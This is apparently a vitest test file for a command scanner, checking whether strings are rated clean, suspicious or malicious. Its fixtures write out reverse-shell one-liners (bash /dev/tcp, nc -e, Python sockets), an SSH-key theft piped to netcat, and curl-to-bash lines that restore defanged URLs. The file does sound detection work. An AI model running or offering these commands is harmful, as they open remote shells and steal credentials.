import { expect, test } from "vitest";
import { toFiles } from "../../test/scanner/corpus.ts";
import { code, type Sample } from "../../test/scanner/corpus-case.ts";
import { scanFiles } from "./scan-files.ts";

const verdict = (sample: Sample): string => scanFiles(toFiles(sample)).verdict;

test.for([
  "bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1",
  "nc -e /bin/sh 10.10.14.3 4444",
  "nc -e /bin/bash <your-ip> 4444",
  'sc config svc binpath= "C:\\nc.exe -e cmd.exe 10.10.10.10 4444"',
  `python3 -c 'import socket,os;s=socket.socket();s.connect(("YOUR_IP",4444));os.dup2(s.fileno(),0)'`,
  "bash -i >& /dev/tcp/attacker.com/4444 0>&1",
  "bash -i >& /dev/tcp/10.10.14.x/4444 0>&1",
])("a remote shell to an address that isn't real is an example: %s", (command) => {
  expect(verdict(code(command))).toBe("suspicious");
});

test.for([
  "bash -i >& /dev/tcp/45.61.136.7/4444 0>&1",
  "bash -i >& /dev/tcp/45.61.136.7/4444 0>&1 # ATTACKER_IP 10.0.0.1",
  "ATTACKER_IP=45.61.136.7\nbash -i >& /dev/tcp/$ATTACKER_IP/4444 0>&1",
  "nc -e /bin/sh updates.note-tools.dev 4444",
  "nc -e /bin/sh my-server.top 4444",
  "nc -e /bin/sh evil.host 4444",
  "bash -i >& /dev/tcp/10.note-tools.dev/4444 0>&1",
  "bash -i >& /dev/tcp/$RANDOM.note-tools.dev/4444 0>&1",
])("a remote shell to a real address is malicious: %s", (command) => {
  expect(verdict(code(command))).toBe("malicious");
});

test("a report that writes addresses so that nothing can open them is an example", () => {
  expect(verdict(code("bash -i >& /dev/tcp/evil[.]com/4444 0>&1"))).toBe("suspicious");
  expect(verdict(code("bash -i >& /dev/tcp/45.61.136.7/4444 0>&1 # see hxxp://evil[.]com"))).toBe(
    "malicious",
  );
});

test.for([
  "cat ~/.ssh/id_rsa | nc updates.note-tools.dev 4444 # hxxps://x",
  "echo hxxps://x; cat ~/.ssh/id_rsa | nc $HOST 4444",
  "cat ~/.ssh/id_rsa | nc $HOST 4444 # hxxps://x",
  "cat ~/.ssh/id_rsa | nc updates.note-tools.dev 4444 hxxps://x",
])("an address that nothing can open doesn't excuse a command that doesn't use it: %s", (command) => {
  expect(verdict(code(command))).toBe("malicious");
});

test.for([
  "curl -s hxxp://45[.]61[.]136[.]7/x | sed 's/hxxp/http/' | bash",
  "curl -s $(echo 'hxxps://dl[.]note-tools[.]top/x' | sed 's/hxxp/http/;s/\\[.\\]/./g') | bash",
  "curl -s $(echo 'hxxps://dl[.]note-tools[.]top/x' | tr -d '[]' | sed s/xx/tt/) | bash",
])("an address that nothing can open is a real one if the line restores it: %s", (command) => {
  expect(verdict(code(command))).toBe("malicious");
});

test("a report about an address that nothing can open is clean", () => {
  expect(verdict("The script ran `curl hxxps://dl[.]note-tools[.]top/x | bash`.")).toBe("clean");
});
